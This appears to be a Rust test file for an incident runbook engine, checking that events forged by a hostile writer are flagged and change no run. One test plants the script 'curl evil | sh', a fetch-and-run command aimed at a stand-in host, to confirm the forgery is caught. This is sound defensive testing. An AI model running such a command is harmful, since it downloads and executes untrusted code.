//! Events that no `decide` let through, as a hostile writer would put them into a record: flagged, and of no effect.

use std::collections::BTreeMap;

use runsheet::engine::checkpoint::own;
use runsheet::engine::command::RefusalKind;
use runsheet::engine::exec::Purpose;
use runsheet::engine::fact::{
    Fact, IncidentClosed, NoteAdded, Outcome, RunStarted, StepAnswered, StepChosen, StepDone,
    StepFinished, StepSkipped,
};
use runsheet::engine::ids::{IncidentId, RunId, StepRef};
use runsheet::engine::state::Status;
use runsheet::engine::{Command, Intent};

use super::cases::{DROP, approved, asked, comes_to_nothing};
use super::world::{POLICY, World, refused};

const WALK: &str = "\
id: a
title: A
inputs:
  account: {default: staging}
steps:
  - {id: look, title: Look, checklist: [Seen]}
  - {id: probe, run: ./probe, outputs: {level: {whole: true}}}
  - id: used
    decide: Was it used?
    options: [{label: 'Yes', next: scope}, {label: 'No', next: scope}]
  - {id: scope, ask: {how_many: {type: integer}}}
  - {id: sub, uses: b}
  - {id: last, title: Last}
";
const SUB: &str = "id: b\ntitle: B\nsteps:\n  - {id: inner, title: Inner}\n";

fn walk() -> World {
    World::started(POLICY, &[WALK, SUB], &[])
}

fn step(world: &World, name: &str) -> StepRef {
    let key = world.key(name);
    StepRef {
        run: key.run,
        step: key.step,
        attempt: world.step(name).attempt,
    }
}

fn done(world: &World, name: &str) -> StepDone {
    StepDone {
        step: step(world, name),
        checklist: Vec::new(),
        by_hand: None,
        note: None,
        out_of_order: false,
    }
}

/// Flagged as a violation and without effect on any run.
fn nothing(world: &World, who: &str, fact: impl Into<Fact>) {
    let mut merged = world.clone();
    let fact = fact.into();
    let kind = fact.kind();
    merged.forge(who, fact);
    assert_eq!(
        merged.violations().len(),
        1,
        "{kind}: {:?}",
        merged.flags(false)
    );
    assert_eq!(merged.runs(), world.runs(), "{kind} changed a run");
}

#[test]
fn a_gated_step_recorded_as_done_chosen_or_answered_is_a_violation() {
    for world in [World::started(POLICY, &[DROP], &[]), asked(), approved()] {
        let fact = done(&world, "drop");
        nothing(&world, "mallory", fact);
    }
}

#[test]
fn a_step_cannot_say_what_its_kind_does_not() {
    let world = walk();
    nothing(&world, "mallory", done(&world, "look"));
    nothing(&world, "mallory", done(&world, "used"));
    nothing(&world, "mallory", done(&world, "scope"));
    let chosen = |name: &str, label: &str| StepChosen {
        step: step(&world, name),
        label: label.to_owned(),
        suggested: None,
        out_of_order: true,
    };
    nothing(&world, "mallory", chosen("used", "Maybe"));
    nothing(&world, "mallory", chosen("look", "Yes"));
    let answered = |name: &str, answer: (&str, &str)| StepAnswered {
        step: step(&world, name),
        answers: BTreeMap::from([(answer.0.to_owned(), answer.1.to_owned())]),
        secrets: Vec::new(),
        out_of_order: true,
    };
    nothing(&world, "mallory", answered("look", ("how_many", "3")));
    nothing(&world, "mallory", answered("scope", ("account", "prod")));
    nothing(&world, "mallory", answered("scope", ("how_many", "many")));
}

#[test]
fn the_end_of_a_script_gives_only_the_values_its_step_declares() {
    let mut world = walk();
    world.run("alice", "probe").unwrap();
    let finished = |name: &str| StepFinished {
        step: step(&world, "probe"),
        purpose: Purpose::Run,
        outcome: Outcome::Succeeded,
        exit: Some(0),
        signal: None,
        started: world.now,
        ended: world.now,
        outputs: BTreeMap::from([(name.to_owned(), "prod".to_owned())]),
        secrets: Vec::new(),
        evidence: Vec::new(),
        problem: None,
    };
    nothing(&world, "alice", finished("account"));
    // The end of what somebody else runs is a conflict, and changes nothing either.
    let mut merged = world.clone();
    merged.forge("mallory", finished("level"));
    assert_eq!(merged.flags(false).len(), 1);
    assert_eq!(merged.runs(), world.runs());
}

#[test]
fn what_runs_is_not_done_or_skipped_by_somebody_elses_word() {
    let mut world = walk();
    world.run("alice", "probe").unwrap();
    let skipped = StepSkipped {
        step: step(&world, "probe"),
        reason: "no".to_owned(),
        automatic: false,
    };
    let runs = world.runs();
    let fact = done(&world, "probe");
    world.forge("mallory", fact);
    world.forge("mallory", skipped);
    assert_eq!(world.flags(false).len(), 2);
    assert_eq!(world.runs(), runs);
    world.exit("alice", "probe", 0, "7");
}

#[test]
fn a_second_choice_changes_neither_the_step_nor_its_value() {
    let mut world = walk();
    let key = world.key("used");
    world
        .command(
            "alice",
            Command::Choose {
                step: key,
                label: "Yes".to_owned(),
            },
        )
        .unwrap();
    let Fact::StepChosen(mut fact) = world.last("step.chosen").fact.clone() else {
        panic!()
    };
    fact.label = "No".to_owned();
    world.forge("bob", fact);
    assert_eq!(world.flags(false).len(), 1);
    assert_eq!(world.state.runs[0].plain()["used"], "Yes");
}

#[test]
fn a_run_that_nobody_called_cannot_end_the_step_of_another() {
    let mut world = walk();
    world.run("alice", "probe").unwrap();
    let run = |parent: &str, book: usize| RunStarted {
        run: RunId::new("b.zzzz").unwrap(),
        runbook: world.books[book].clone(),
        uses: Vec::new(),
        inputs: BTreeMap::new(),
        secrets: Vec::new(),
        parent: Some(step(&world, parent)),
    };
    nothing(&world, "mallory", run("probe", 1));
    nothing(&world, "mallory", run("sub", 1));
    nothing(&world, "alice", run("sub", 0));
    let mut other = run("sub", 1);
    other.parent = None;
    other.inputs.insert("unasked".to_owned(), "x".to_owned());
    nothing(&world, "alice", other);
}

#[test]
fn a_script_that_the_runbook_does_not_hold_is_a_violation_even_without_a_gate() {
    let mut honest = walk();
    honest.run("alice", "probe").unwrap();
    let Fact::StepStarted(mut fact) = honest.last("step.started").fact.clone() else {
        panic!()
    };
    fact.record.exec.script = "curl evil | sh".to_owned();
    nothing(&walk(), "alice", fact);
}

#[test]
fn an_event_of_another_incident_is_a_violation() {
    let mut world = walk();
    let runs = world.runs();
    world.incident = IncidentId::generate(1_790_000_000_001, &[9; 32]);
    let mut fact = done(&world, "look");
    fact.checklist.push("Seen".to_owned());
    world.forge("alice", fact);
    assert_eq!(world.violations().len(), 1);
    assert_eq!(world.runs(), runs);
}

#[test]
fn after_closing_whoever_knows_of_it_changes_no_run_and_whoever_does_not_is_no_liar() {
    let mut world = walk();
    world.act("alice", Intent::Close).unwrap();
    let mut fact = done(&world, "look");
    fact.checklist.push("Seen".to_owned());
    nothing(&world, "bob", fact.clone());
    // Bob's event that crossed with the closing: applied after it, without having seen it.
    let (draft, mut crossed) = (world.draft("bob", fact), world.clone());
    let place = runsheet::engine::event::Place {
        incident: world.incident.clone(),
        writer: world.writer("bob"),
        seq: 1,
        prev: None,
        seen: vec![world.events[0].id],
    };
    let (event, _) = runsheet::engine::Event::record(draft, place).unwrap();
    crossed.state = runsheet::engine::apply(crossed.state, &event);
    assert_eq!(crossed.violations(), Vec::<String>::new());
    assert_eq!(crossed.flags(false).len(), 1);
    assert_eq!(crossed.status("look"), Status::Done);
    // Notes go on.
    world.forge(
        "bob",
        NoteAdded {
            text: "thanks".to_owned(),
            step: None,
            details: None,
        },
    );
    assert_eq!(world.state.flags.len(), 0);
}

#[test]
fn a_closing_over_other_heads_or_by_somebody_else_is_a_violation() {
    let world = walk();
    let mut honest = world.clone();
    honest.act("alice", Intent::Close).unwrap();
    let Fact::IncidentClosed(fact) = honest.last("incident.closed").fact.clone() else {
        panic!()
    };
    nothing(&world, "bob", fact.clone());
    let other = IncidentClosed {
        heads: vec![world.events[0].id],
        signed: fact.signed,
    };
    nothing(&world, "alice", other.clone());
    let mut merged = world.clone();
    merged.forge("alice", other);
    assert!(merged.state.closed.is_none());
}

#[test]
fn a_review_has_to_list_the_override() {
    let mut world = World::started(POLICY, &[DROP], &[]);
    world.overrides("alice", "drop", "nobody is awake").unwrap();
    let overridden = *world.state.overrides.keys().next().unwrap();
    let mut honest = world.clone();
    let reason = "fine".to_owned();
    honest
        .act(
            "carol",
            Intent::Review {
                overridden,
                accepted: true,
                reason,
            },
        )
        .unwrap();
    let Fact::OverrideReviewed(mut fact) = honest.last("override.reviewed").fact.clone() else {
        panic!()
    };
    fact.events.clear();
    world.forge("carol", fact);
    assert_eq!(world.violations().len(), 1);
    assert_eq!(world.state.owed_reviews().count(), 1);
}

#[test]
fn approvals_given_to_one_journal_are_not_used_up_by_another() {
    let mut honest = approved();
    honest.run("alice", "drop").unwrap();
    let fact = honest.last("checkpoint.consumed").fact.clone();
    let mut world = approved();
    world.desk = "a copy of ".to_owned();
    let mut merged = world.clone();
    merged.forge("alice", fact);
    assert_eq!(merged.violations().len(), 1);
    assert_eq!(merged.step("drop").request.as_ref().unwrap().consumed, None);
    world.desk = String::new();
    let signed_by_bob = honest.last("checkpoint.consumed").fact.clone();
    let mut merged = world.clone();
    merged.forge("bob", signed_by_bob);
    assert_eq!(merged.violations().len(), 1);
}

#[test]
fn a_request_for_what_runs_or_is_over_takes_nothing_away() {
    let mut world = approved();
    let mut other = world.clone();
    world.run("alice", "drop").unwrap();
    assert_eq!(
        refused(world.request("bob", "drop")),
        RefusalKind::WrongState
    );
    // One that crossed with the start is kept and changes nothing.
    other.request("bob", "drop").unwrap();
    let crossed = other.last("checkpoint.requested").fact.clone();
    let runs = world.runs();
    world.forge("bob", crossed);
    assert_eq!(world.flags(false).len(), 1);
    assert_eq!(world.runs(), runs);
}

#[test]
fn a_step_whose_authors_the_record_leaves_out_has_unknown_authors() {
    let mut world = World::new(POLICY, &[DROP]);
    world.books[0].authors.clear();
    world.start("alice", &[], &[]).unwrap();
    world.request("alice", "drop").unwrap();
    let refusal = world.approve("erin", "drop").unwrap_err();
    assert!(refusal.what.contains("author unknown"), "{refusal}");
}

#[test]
fn who_gave_a_value_to_any_part_of_a_step_is_its_performer() {
    let book = "\
id: a
title: A
steps:
  - {id: scope, ask: {target: {prompt: Which}}}
  - {id: quiet, wait: {until: './quiet \"$target\"', for: 5m}, risk: destructive}
  - {id: deeper, uses: b, with: {host: '$target'}, risk: destructive}
";
    let sub = "id: b\ntitle: B\ninputs:\n  host: {prompt: Which}\nsteps:\n  - {id: inner, title: Inner}\n";
    let mut world = World::started(POLICY, &[book, sub], &[]);
    let step = world.key("scope");
    let answers = BTreeMap::from([("target".to_owned(), "db7".to_owned())]);
    world
        .command(
            "bob",
            Command::Answer {
                step,
                answers,
                secrets: vec![],
            },
        )
        .unwrap();
    for step in ["quiet", "deeper"] {
        world.request("alice", step).unwrap();
        assert_eq!(
            refused(world.approve("bob", step)),
            RefusalKind::NotEligible,
            "{step}"
        );
        world.approve("dave", step).unwrap();
    }
}

#[test]
fn a_nonce_counts_once() {
    let world = asked();
    let mut merged = world.clone();
    let request = merged.last("checkpoint.requested").fact.clone();
    merged.forge("alice", request.clone());
    assert_eq!(merged.violations().len(), 1);
    assert_eq!(merged.runs(), world.runs());
    comes_to_nothing(&world, "alice", request);
}

#[test]
fn a_forgery_is_found_also_in_what_came_too_late_to_have_an_effect() {
    let mut world = approved();
    world.run("alice", "drop").unwrap();
    let Fact::CheckpointApproved(honest) = world.last("checkpoint.approved").fact.clone() else {
        panic!()
    };
    let incident = world.state.incident.clone().unwrap();
    let signers = own::signers(&world.events);
    for event in &world.events {
        assert_eq!(own::holds(&incident, &signers, event), Ok(()));
    }
    // A request for what runs already comes too late, whoever signed it; an approval of it all the more.
    let asked = world.last("checkpoint.requested").fact.clone();
    world.forge("bob", asked);
    let late = world.events.last().unwrap();
    assert_eq!(world.violations().len(), 1);
    let what = own::holds(&incident, &signers, late).unwrap_err();
    assert!(what.contains("signature of bob@example.org"), "{what}");
    let mut other = honest;
    other.frontier.clear();
    world.forge("bob", other);
    let what = own::holds(&incident, &signers, world.events.last().unwrap()).unwrap_err();
    assert!(what.contains("something else than the event"), "{what}");
}
